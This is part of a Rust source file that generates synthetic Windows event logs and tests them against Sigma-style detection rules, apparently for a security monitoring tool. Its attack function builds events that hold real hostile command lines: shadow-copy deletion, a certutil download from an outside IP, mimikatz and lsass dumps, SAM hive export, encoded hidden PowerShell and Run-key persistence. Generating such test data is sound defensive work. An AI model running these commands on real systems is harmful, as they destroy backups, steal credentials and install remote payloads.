                Self::domain_user(user),
            ),
            "chrome" => (
                r"C:\Program Files\Google\Chrome\Application\chrome.exe".to_owned(),
                Self::domain_user(user),
            ),
            "git" => (
                r"C:\Program Files\Git\mingw64\bin\git-remote-https.exe".to_owned(),
                Self::domain_user(user),
            ),
            "onedrive" => (
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"),
                Self::domain_user(user),
            ),
            "code" => (
                format!(r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe"),
                Self::domain_user(user),
            ),
            "python" => (
                r"C:\Program Files\Python312\python.exe".to_owned(),
                Self::domain_user(user),
            ),
            "svchost" => (SVCHOST_EXE.to_owned(), r"NT AUTHORITY\SYSTEM".to_owned()),
            _ => (
                r"C:\Windows\System32\lsass.exe".to_owned(),
                r"NT AUTHORITY\SYSTEM".to_owned(),
            ),
        };
        let data = json!({
            "RuleName": "-",
            "UtcTime": utc,
            "ProcessGuid": self.rng.guid(),
            "ProcessId": self.rng.between(500, 30000),
            "Image": image,
            "User": as_user,
            "Protocol": "tcp",
            "Initiated": true,
            "SourceIsIpv6": false,
            "SourceIp": format!("10.20.{}.{}", self.rng.below(8), self.rng.between(10, 250)),
            "SourceHostname": self.hosts[host].name,
            "SourcePort": self.rng.between(49152, 65535),
            "SourcePortName": "-",
            "DestinationIsIpv6": false,
            "DestinationIp": format!("{ip}{}.{}", self.rng.below(256), self.rng.between(1, 254)),
            "DestinationHostname": destination,
            "DestinationPort": port,
            "DestinationPortName": match port { 443 => "https", 80 => "http", _ => "ldap" },
        });
        self.windows_event(SYSMON, SYSMON_CHANNEL, 3, host, data)
    }

    fn file_created(&mut self, host: usize, user: &str) -> Value {
        let (_, utc) = self.time();
        let n = self.rng.between(1000, 99999);
        let hex = self.rng.hex(8);
        let office = r"C:\Program Files\Microsoft Office\root\Office16";
        let (image, target) = match self.rng.below(7) {
            0 => (
                r"C:\Program Files\Google\Chrome\Application\chrome.exe".to_owned(),
                format!(r"C:\Users\{user}\Downloads\Facture_{n}.pdf.crdownload"),
            ),
            1 => (
                format!(r"{office}\WINWORD.EXE"),
                format!(r"C:\Users\{user}\Documents\Dossiers\~$mpte_rendu_{n}.docx"),
            ),
            2 => (
                format!(r"{office}\OUTLOOK.EXE"),
                format!(
                    r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}\Bon_de_commande_{n}.pdf"
                ),
            ),
            3 => (
                r"C:\Program Files\Python312\python.exe".to_owned(),
                format!(r"C:\Users\{user}\projets\etl\__pycache__\extract_{n}.cpython-312.pyc"),
            ),
            4 => (
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"),
                format!(r"C:\Users\{user}\AppData\Roaming\Microsoft\Teams\logs\teams_{hex}.txt"),
            ),
            5 => (
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"),
                format!(r"C:\Users\{user}\OneDrive - Corp\Partage\Equipe\Planning_{n}.xlsx"),
            ),
            _ => (
                SVCHOST_EXE.to_owned(),
                format!(r"C:\Windows\ServiceProfiles\LocalService\AppData\Local\Temp\{hex}.tmp"),
            ),
        };
        let data = json!({
            "RuleName": "-",
            "UtcTime": utc,
            "ProcessGuid": self.rng.guid(),
            "ProcessId": self.rng.between(500, 30000),
            "Image": image,
            "TargetFilename": target,
            "CreationUtcTime": utc,
            "User": Self::domain_user(user),
        });
        self.windows_event(SYSMON, SYSMON_CHANNEL, 11, host, data)
    }

    fn registry_set(&mut self, host: usize, user: &str) -> Value {
        let (_, utc) = self.time();
        let sid = self.user_sid(host);
        let n = self.rng.below(40);
        let (image, target, details) = match self.rng.below(5) {
            0 => (
                EXPLORER_EXE.to_owned(),
                format!(
                    r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\{n}"
                ),
                "Binary Data".to_owned(),
            ),
            1 => (
                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE".to_owned(),
                format!(
                    r"HKU\{sid}\Software\Microsoft\Office\16.0\Word\Reading Locations\Document {n}\Position"
                ),
                format!("{} {}", self.rng.below(900), self.rng.below(90)),
            ),
            2 => (
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"),
                format!(r"HKU\{sid}\Software\Microsoft\OneDrive\Accounts\Business1\LastSignInTime"),
                format!("DWORD (0x{})", self.rng.hex(8)),
            ),
            3 => (
                SVCHOST_EXE.to_owned(),
                format!(
                    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{sid}\\Device\HarddiskVolume3\Program Files\Google\Chrome\Application\chrome.exe"
                ),
                "Binary Data".to_owned(),
            ),
            _ => (
                format!(r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"),
                format!(r"HKU\{sid}\Software\Microsoft\Office\Teams\LoggedInOnce"),
                "DWORD (0x00000001)".to_owned(),
            ),
        };
        self.registry_event(host, user, &image, &target, &details, &utc)
    }

    fn registry_event(
        &mut self,
        host: usize,
        user: &str,
        image: &str,
        target: &str,
        details: &str,
        utc: &str,
    ) -> Value {
        let data = json!({
            "RuleName": "-",
            "EventType": "SetValue",
            "UtcTime": utc,
            "ProcessGuid": self.rng.guid(),
            "ProcessId": self.rng.between(500, 30000),
            "Image": image,
            "TargetObject": target,
            "Details": details,
            "User": Self::domain_user(user),
        });
        self.windows_event(SYSMON, SYSMON_CHANNEL, 13, host, data)
    }

    fn logon(&mut self, host: usize, user: &str) -> Value {
        let (logon_type, process, package, logon_process) = *self.rng.pick(&[
            (3, "-", "Kerberos", "Kerberos"),
            (3, "-", "Kerberos", "Kerberos"),
            (3, "-", "NTLM", "NtLmSsp "),
            (
                2,
                r"C:\Windows\System32\svchost.exe",
                "Negotiate",
                "User32 ",
            ),
            (
                5,
                r"C:\Windows\System32\services.exe",
                "Negotiate",
                "Advapi  ",
            ),
            (
                10,
                r"C:\Windows\System32\svchost.exe",
                "Negotiate",
                "User32 ",
            ),
            (
                11,
                r"C:\Windows\System32\svchost.exe",
                "Negotiate",
                "User32 ",
            ),
        ]);
        let service = logon_type == 5;
        let remote = logon_type == 3 || logon_type == 10;
        let data = json!({
            "SubjectUserSid": if remote { "S-1-0-0" } else { "S-1-5-18" },
            "SubjectUserName": if remote { "-".to_owned() } else {
                format!("{}$", self.hosts[host].name.split('.').next().unwrap_or_default())
            },
            "SubjectDomainName": if remote { "-" } else { "CORP" },
            "SubjectLogonId": if remote { "0x0" } else { "0x3e7" },
            "TargetUserSid": if service { "S-1-5-18".to_owned() } else { self.user_sid(host) },
            "TargetUserName": if service { "SYSTEM" } else { user },
            "TargetDomainName": if service { "NT AUTHORITY" } else { "CORP" },
            "TargetLogonId": format!("0x{:x}", self.rng.between(0x10000, 0xffffff)),
            "LogonType": logon_type,
            "LogonProcessName": logon_process,
            "AuthenticationPackageName": package,
            "WorkstationName": if remote { "-".to_owned() } else {
                self.hosts[host].name.split('.').next().unwrap_or_default().to_owned()
            },
            "LogonGuid": self.rng.guid(),
            "TransmittedServices": "-",
            "LmPackageName": if package == "NTLM" { "NTLM V2" } else { "-" },
            "KeyLength": if package == "NTLM" { 128 } else { 0 },
            "ProcessId": if process == "-" { "0x0".to_owned() } else {
                format!("0x{:x}", self.rng.between(500, 3000))
            },
            "ProcessName": process,
            "IpAddress": if remote {
                format!("10.20.{}.{}", self.rng.below(8), self.rng.between(10, 250))
            } else { "127.0.0.1".to_owned() },
            "IpPort": if remote { self.rng.between(49152, 65535).to_string() } else { "0".to_owned() },
            "ImpersonationLevel": "%%1833",
            "RestrictedAdminMode": "-",
            "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-",
            "VirtualAccount": "%%1843",
            "TargetLinkedLogonId": "0x0",
            "ElevatedToken": if service { "%%1842" } else { "%%1843" },
        });
        self.windows_event(SECURITY, "Security", 4624, host, data)
    }

    fn failed_logon(&mut self, host: usize) -> Value {
        let target = *self
            .rng
            .pick(&["administrateur", "admin", "scanner", "jdupont", "backup"]);
        let (status, sub_status, reason) = *self.rng.pick(&[
            ("0xc000006d", "0xc000006a", "%%2313"),
            ("0xc000006d", "0xc0000064", "%%2313"),
            ("0xc000006e", "0xc0000072", "%%2310"),
        ]);
        let data = json!({
            "SubjectUserSid": "S-1-0-0",
            "SubjectUserName": "-",
            "SubjectDomainName": "-",
            "SubjectLogonId": "0x0",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": target,
            "TargetDomainName": "CORP",
            "Status": status,
            "FailureReason": reason,
            "SubStatus": sub_status,
            "LogonType": 3,
            "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": format!("WS-{}", self.rng.hex(6)),
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": 0,
            "ProcessId": "0x0",
            "ProcessName": "-",
            "IpAddress": format!("10.20.{}.{}", self.rng.below(8), self.rng.between(10, 250)),
            "IpPort": self.rng.between(49152, 65535).to_string(),
        });
        self.windows_event(SECURITY, "Security", 4625, host, data)
    }

    fn script_block(&mut self, host: usize, user: &str, script: Option<String>) -> Value {
        let n = self.rng.between(1000, 99999);
        let text = script.unwrap_or_else(|| match self.rng.below(6) {
            0 => "{ Set-StrictMode -Version 1; $_.PSMessageDetails }".to_owned(),
            1 => "prompt".to_owned(),
            2 => format!(
                "Get-ChildItem -Path \"C:\\Users\\{user}\\Documents\" -Recurse -Filter *.docx | \
                 Where-Object {{ $_.LastWriteTime -gt (Get-Date).AddDays(-7) }} | \
                 Select-Object FullName, Length"
            ),
            3 => {
                "Get-Service -Name wuauserv, BITS, Spooler | Select-Object Name, Status, StartType \
                  | Format-Table -AutoSize"
                    .to_owned()
            }
            4 => format!(
                "$ErrorActionPreference = 'Stop'\r\n$ip = Resolve-DnsName -Name \
                 srv-app-{:02}.corp.example.net -Type A | Select-Object -ExpandProperty IPAddress\r\n\
                 if (-not $ip) {{ Write-Warning 'srv-app introuvable' }}",
                n % 12
            ),
            _ => "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object { $_.Level -le 2 } | \
                  Select-Object TimeCreated, Id, ProviderName, Message"
                .to_owned(),
        });
        let data = json!({
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": text,
            "ScriptBlockId": self.rng.guid().trim_matches(|c| c == '{' || c == '}').to_lowercase(),
            "Path": if n.is_multiple_of(3) {
                format!(r"C:\ProgramData\Intune\Scripts\inventaire_{n}.ps1")
            } else { String::new() },
        });
        self.windows_event(
            POWERSHELL,
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            host,
            data,
        )
    }

    fn service_installed(&mut self, host: usize, service: Option<(String, String)>) -> Value {
        let (name, image) = service.unwrap_or_else(|| {
            let (name, image) = *self.rng.pick(&[
                (
                    "Google Update Service (gupdate)",
                    r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc"#,
                ),
                (
                    "Mozilla Maintenance Service",
                    r#""C:\Program Files (x86)\Mozilla Maintenance Service\maintenanceservice.exe""#,
                ),
                (
                    "Microsoft Edge Update Service (edgeupdate)",
                    r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /svc"#,
                ),
                (
                    "Zabbix Agent 2",
                    r#""C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe" -c "C:\Program Files\Zabbix Agent 2\zabbix_agent2.conf" -f=false"#,
                ),
            ]);
            (name.to_owned(), image.to_owned())
        });
        let data = json!({
            "ServiceName": name,
            "ImagePath": image,
            "ServiceType": "user mode service",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        });
        let mut event = self.windows_event(SERVICE_CONTROL_MANAGER, "System", 7045, host, data);
        // The Service Control Manager's records name their source beside the provider.
        if let Some(provider) = event.pointer_mut("/Event/System/Provider/#attributes") {
            provider["EventSourceName"] = json!("Service Control Manager");
        }
        event
    }

    /// One of the events built to hit public rules, in turn.
    fn attack(&mut self, host: usize, user: &str) -> Value {
        let kind = self.attacks % 13;
        self.attacks += 1;
        let as_user = Self::domain_user(user);
        let tool = |image: &str, original, description, command_line: &str| Process {
            image: image.to_owned(),
            original,
            description,
            product: "Microsoft® Windows® Operating System",
            company: "Microsoft Corporation",
            command_line: command_line.to_owned(),
            parent_image: CMD_EXE.to_owned(),
            parent_command_line: r#""C:\Windows\system32\cmd.exe""#.to_owned(),
            user: as_user.clone(),
            integrity: "High",
        };
        let octet = self.rng.between(2, 250);
        match kind {
            0 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\vssadmin.exe",
                    "VSSADMIN.EXE",
                    "Command Line Interface for Microsoft® Volume Shadow Copy Service",
                    "vssadmin.exe delete shadows /all /quiet",
                ),
            ),
            1 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\certutil.exe",
                    "CertUtil.exe",
                    "CertUtil.exe",
                    &format!(
                        r"certutil.exe -urlcache -split -f http://185.193.{octet}.17/files/update.exe C:\Users\Public\update.exe"
                    ),
                ),
            ),
            2 => {
                let mut process = tool(
                    r"C:\Users\Public\m64.exe",
                    "mimikatz.exe",
                    "mimikatz for Windows",
                    r#"m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
                );
                process.product = "mimikatz";
                process.company = "gentilkiwi (Benjamin DELPY)";
                self.process_creation(host, &process)
            }
            3 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\rundll32.exe",
                    "RUNDLL32.EXE",
                    "Windows host process (Rundll32)",
                    &format!(
                        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Users\Public\lsass.dmp full",
                        600 + octet
                    ),
                ),
            ),
            4 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\wbem\WMIC.exe",
                    "wmic.exe",
                    "WMI Commandline Utility",
                    "wmic.exe shadowcopy delete /nointeractive",
                ),
            ),
            5 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\bcdedit.exe",
                    "bcdedit.exe",
                    "Boot Configuration Data Editor",
                    "bcdedit.exe /set {default} recoveryenabled no",
                ),
            ),
            6 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\reg.exe",
                    "reg.exe",
                    "Registry Console Tool",
                    r"reg.exe save HKLM\SAM C:\Users\Public\sam.save /y",
                ),
            ),
            7 => self.process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    "PowerShell.EXE",
                    "Windows PowerShell",
                    "powershell.exe -NoP -sta -NonI -W Hidden -Enc \
                     SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                ),
            ),
            8 => self.security_process_creation(
                host,
                &tool(
                    r"C:\Windows\System32\vssadmin.exe",
                    "VSSADMIN.EXE",
                    "Command Line Interface for Microsoft® Volume Shadow Copy Service",
                    "vssadmin.exe delete shadows /all /quiet",
                ),
            ),
            9 => self.script_block(
                host,
                user,
                Some(
                    "Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\"'"
                        .to_owned(),
                ),
            ),
            10 => {
                let pipe = self.rng.hex(6).to_lowercase();
                self.service_installed(
                    host,
                    Some((
                        pipe.clone(),
                        format!(r"cmd.exe /c echo {pipe} > \\.\pipe\{pipe}"),
                    )),
                )
            }
            11 => {
                let (_, utc) = self.time();
                let data = json!({
                    "RuleName": "-",
                    "UtcTime": utc,
                    "ProcessGuid": self.rng.guid(),
                    "ProcessId": self.rng.between(500, 30000),
                    "Image": r"C:\Windows\System32\rundll32.exe",
                    "TargetFilename": r"C:\Users\Public\lsass.dmp",
                    "CreationUtcTime": utc,
                    "User": as_user,
                });
                self.windows_event(SYSMON, SYSMON_CHANNEL, 11, host, data)
            }
            _ => {
                let (_, utc) = self.time();
                let sid = self.user_sid(host);
                self.registry_event(
                    host,
                    user,
                    r"C:\Windows\System32\reg.exe",
                    &format!(r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\Updater"),
                    r"C:\Users\Public\update.exe",
                    &utc,
                )
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigie_core::rule::detect::EventLogSource;

    #[test]
    fn the_synthetic_stream_is_the_same_on_every_run() {
        let first: Vec<Value> = (0..2000)
            .map({
                let mut stream = SyntheticStream::new(SYNTHETIC_SEED);
                move |_| stream.next_event()
            })
            .collect();
        let mut again = SyntheticStream::new(SYNTHETIC_SEED);
        for (n, event) in first.iter().enumerate() {
            assert_eq!(event, &again.next_event(), "event {n} differs");
        }
        let mut other = SyntheticStream::new(SYNTHETIC_SEED + 1);
        assert_ne!(first[0], other.next_event(), "the seed changes the stream");
    }

    #[test]
    fn synthetic_events_are_windows_records_in_the_evtx_layout_with_the_documented_mix() {
        let mut stream = SyntheticStream::new(SYNTHETIC_SEED);
        let mut per_kind: HashMap<(String, i64), usize> = HashMap::new();
        let mut process_creations = 0;
        let total = 20_000;
        for _ in 0..total {
            let event = stream.next_event();
            let system = &event["Event"]["System"];
            let channel = system["Channel"].as_str().expect("a channel").to_owned();
            let id = system["EventID"].as_i64().expect("a numeric event id");
            assert!(
                system["Computer"]
                    .as_str()
                    .is_some_and(|c| c.ends_with(".net"))
            );
            assert!(system["Provider"]["#attributes"]["Name"].is_string());
            let data = event["Event"]["EventData"].as_object().expect("event data");
            assert!(!data.is_empty());
            for value in data.values() {
                assert!(value.is_string() || value.is_number() || value.is_boolean());
            }
            if let Some(command_line) = data.get("CommandLine").and_then(Value::as_str) {
                assert!(
                    (20..=260).contains(&command_line.len()),
                    "command line of {} characters: {command_line}",
                    command_line.len()
                );
            }
            let logsource = EventLogSource::of(&event);
            assert_eq!(logsource.product.as_deref(), Some("windows"));
            if logsource.category.as_deref() == Some("process_creation") {
                process_creations += 1;
            }
            *per_kind.entry((channel, id)).or_default() += 1;
        }
        let share = |channel: &str, id| {
            per_kind
                .get(&(channel.to_owned(), id))
                .copied()
                .unwrap_or(0)
                * 1000
                / total
        };
        // Per thousand, within sampling noise of the documented mix (attacks add a little).
        assert!(
            (310..=355).contains(&share(SYSMON_CHANNEL, 1)),
            "{per_kind:?}"
        );
        assert!(
            (115..=145).contains(&share(SYSMON_CHANNEL, 3)),
            "{per_kind:?}"
        );
        assert!(
            (115..=145).contains(&share(SYSMON_CHANNEL, 11)),
            "{per_kind:?}"
        );
        assert!(
            (85..=115).contains(&share(SYSMON_CHANNEL, 13)),
            "{per_kind:?}"
        );
        assert!(
            (85..=115).contains(&share("Security", 4624)),
            "{per_kind:?}"
        );
        assert!((20..=40).contains(&share("Security", 4625)), "{per_kind:?}");
        assert!((65..=95).contains(&share("Security", 4688)), "{per_kind:?}");
        assert!(
            (60..=85).contains(&share("Microsoft-Windows-PowerShell/Operational", 4104)),
            "{per_kind:?}"
        );
        assert!((12..=30).contains(&share("System", 7045)), "{per_kind:?}");
        assert_eq!(per_kind.len(), 9, "{per_kind:?}");
        assert!(process_creations * 1000 / total >= 390);
    }

    #[test]
    fn synthetic_attacks_fire_a_public_style_rule() {
        let rule = r#"title: Shadow Copies Deletion Using Operating Systems Utilities
id: c947b146-0abc-4c87-9c64-b17e9d7274a8
logsource:
    product: windows
    category: process_creation
detection:
    selection1_img:
        - Image|endswith: '\vssadmin.exe'
        - OriginalFileName: 'VSSADMIN.EXE'
    selection2:
        CommandLine|contains|all:
            - 'shadow'
            - 'delete'
    condition: selection1_img and selection2
level: high
"#;
        let set = load_rules(&[("rule.yml".to_owned(), rule.to_owned())], &HashMap::new());
        assert!(set.rejected.is_empty(), "{:?}", set.rejected);
        let set = DetectionSet::new(set);
        let mut stream = SyntheticStream::new(SYNTHETIC_SEED);
        let fired = (0..20_000)
            .filter(|_| !set.matching_document(&stream.next_event()).is_empty())
            .count();
        // One attack kind in thirteen is a Sysmon vssadmin deletion, about 15 in 20,000 events;
        // the Security 4688 twin names the image `NewProcessName`, which this rule does not read.
        assert!((8..=25).contains(&fired), "{fired} events fired the rule");
    }
}
